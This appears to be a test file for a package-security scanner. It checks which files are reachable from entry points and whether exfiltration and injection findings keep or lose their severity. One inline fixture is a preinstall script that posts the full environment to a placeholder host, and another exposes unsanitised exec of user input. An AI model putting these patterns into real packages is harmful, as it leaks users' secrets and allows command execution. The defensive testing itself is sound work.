import { mkdtempSync, readFileSync, rmSync, writeFileSync, mkdirSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { computeReachability } from "../../src/governance/dataflow/reachability";
import { runPipeline } from "../../src/governance/pipeline";
import { runDataflow } from "../../src/governance/dataflow/stage";

const REPO = join(__dirname, "../fixtures/governance/code/repo-install-script");
const options = { failOn: "high" as const, semgrep: { bin: "/nonexistent/semgrep", configs: [], required: false } };
const manifest = { name: "weather", version: "1.0.0", description: "Weather forecasts for cities", license: "MIT" };

function tree(files: Record<string, string>): string {
  const dir = mkdtempSync(join(tmpdir(), "mcpfed-reach-"));
  for (const [name, text] of Object.entries(files)) {
    mkdirSync(join(dir, name, ".."), { recursive: true });
    writeFileSync(join(dir, name), text);
  }
  return dir;
}

describe("findings are judged by what runs", () => {
  test("when a file that runs is too large to read, then it rejects; the same file unreached is only reported", () => {
    const files = ["package.json", "index.js", "lib/big.js", "docs/big.js"];
    const text: Record<string, string | undefined> = { "package.json": '{"main":"index.js"}', "index.js": "require('./lib/big');\n", "lib/big.js": undefined, "docs/big.js": undefined };
    const out = runDataflow(files, (f) => text[f]);
    expect(out.findings.find((f) => f.file === "lib/big.js")).toMatchObject({ ruleId: "flow/too-large", severity: "high" });
    expect(out.findings.find((f) => f.file === "docs/big.js")).toMatchObject({ ruleId: "flow/too-large", severity: "medium" });
  });

  test("when package.json names dist/ entries and a postinstall script, then src/ (mapped from dist/), its imports and the script are reachable, examples and docs are not", () => {
    const files = ["package.json", "src/index.ts", "src/api.ts", "scripts/setup.js", "examples/eval-demo.js", "docs/snippet.py"];
    const r = computeReachability(files, (f) => readFileSync(join(REPO, f), "utf8"));
    expect(r.known).toBe(true);
    expect([...r.reachable].sort()).toEqual(["scripts/setup.js", "src/api.ts", "src/index.ts"]);
  });

  test("when Python declares pyproject scripts or a __main__ guard, then those modules and their imports are reachable", () => {
    const files: Record<string, string> = {
      "pyproject.toml": '[project]\nname = "x"\n[project.scripts]\nx-server = "xpkg.server:main"\n',
      "src/xpkg/server.py": "from .tools import run\nfrom xpkg import util\n",
      "src/xpkg/tools.py": "",
      "src/xpkg/util.py": "",
      "tools/helper.py": "if __name__ == '__main__':\n    pass\n",
      "examples/demo.py": "",
    };
    const r = computeReachability(Object.keys(files), (f) => files[f]);
    expect([...r.reachable].sort()).toEqual(["src/xpkg/server.py", "src/xpkg/tools.py", "src/xpkg/util.py", "tools/helper.py"]);
  });

  test("when the repository is scanned, then the install script's exfiltration under scripts/ stays high and rejects, and unreachable examples/docs are lowered", async () => {
    const report = await runPipeline({ manifest, sourceDir: REPO }, options);
    expect(report.decision).toBe("rejected");
    expect(report.findings.find((f) => f.file === "scripts/setup.js" && f.ruleId === "flow/exfiltration")).toMatchObject({ severity: "high", scanner: "dataflow" });
    const example = report.findings.find((f) => f.file === "examples/eval-demo.js" && f.ruleId === "flow/code-injection");
    expect(example).toMatchObject({ severity: "low", message: expect.stringContaining("never run") });
    expect(report.findings.find((f) => f.file === "docs/snippet.py" && f.ruleId === "flow/command-injection")?.severity).toBe("low");
    expect(report.findings.filter((f) => f.file?.startsWith("src/") && ["high", "critical"].includes(f.severity))).toEqual([]);
    expect(report.stages.find((s) => s.name === "dataflow")).toMatchObject({ status: "fail", detail: expect.stringContaining("reachable") });
  });

  test("when example code is run by an npm script, or a tool by an extensionless preinstall command, then their findings keep their severity", async () => {
    const dir = tree({
      "package.json": JSON.stringify({ name: "demo", version: "1.0.0", main: "index.js", scripts: { start: "node examples/server.js", preinstall: "node ./scripts/fetch-assets" } }),
      "scripts/fetch-assets.js": "require('https').request({ host: 'assets.example' }).end(JSON.stringify(process.env));\n",
      "index.js": "module.exports = {};\n",
      "examples/server.js": "const { exec } = require('child_process');\nserver.tool('run', 'Run', {}, async ({ cmd }) => exec(cmd));\n",
    });
    try {
      const report = await runPipeline({ manifest, sourceDir: dir }, options);
      expect(report.findings.find((f) => f.file === "examples/server.js" && f.ruleId === "flow/command-injection")?.severity).toBe("critical");
      expect(report.findings.find((f) => f.file === "scripts/fetch-assets.js" && f.ruleId === "flow/exfiltration")?.severity).toBe("high");
      expect(report.decision).toBe("rejected");
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
